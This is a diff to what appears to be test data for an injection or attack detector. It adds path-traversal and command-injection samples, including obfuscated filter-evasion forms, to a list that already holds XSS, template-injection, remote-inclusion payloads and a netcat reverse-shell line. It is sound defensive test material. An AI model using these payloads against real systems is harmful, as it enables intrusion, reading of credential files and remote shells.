@@ -50,10 +50,12 @@ POSITIVES = [
                               "javascript:alert(document.cookie)", '" onmouseover="alert(1)',
                               "<svg/onload=confirm(1)>"]),
     ("Path.Traversal", ["../../../../etc/passwd", "..\\..\\windows\\win.ini",
-                        "/proc/self/environ", "....//....//etc/shadow", "..;/admin"]),
+                        "/proc/self/environ", "....//....//etc/shadow", "..;/admin",
+                        "file:/etc/hosts", "\\.\\.\\/\\.\\.\\/conf", "x.php%00.gif"]),
     ("Remote.File.Inclusion", ["http://evil.example/shell.txt?", "include('http://x.test/a')"]),
     ("Command.Injection", ["; cat /etc/passwd", "$(id)", "`whoami`", "a|nc -e /bin/sh 10.0.0.1",
-                           ";cat${IFS}/etc/passwd", "x && ping -c 3 127.0.0.1"]),
+                           ";cat${IFS}/etc/passwd", "x && ping -c 3 127.0.0.1", "which wget",
+                           "`true`", ";w'h'o'am'i", ";/???/c?t /???/p?ss??", "$(cat${HOME:0:1}x)"]),
     ("Template.Injection", ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
                             "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                             "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"]),
@@ -331,6 +333,8 @@ FRAGMENTS = [
     "{{", "}}", "7*7", "jndi:", "ldap://", "$ne", "[$gt]", "169.254.169.254", "rO0AB", "<?php",
     "%27", "%2e%2e%2f", "&#x3c;", "\\u003c", "%u002e", "\uff1c", "\x00", "id", "cat ", "sleep(5)",
     "alert(1)", " ", "a", "=", "&", "+", "\n",
+    "w'h'o", "'am'i", "\\", "$@", "which ", "curl", "`true`", "false", "%00", ".jpg", "file:/",
+    "c:", "/???/", "c?t", "${PATH:0:1}", ".\\.\\/",
 ]
 
 
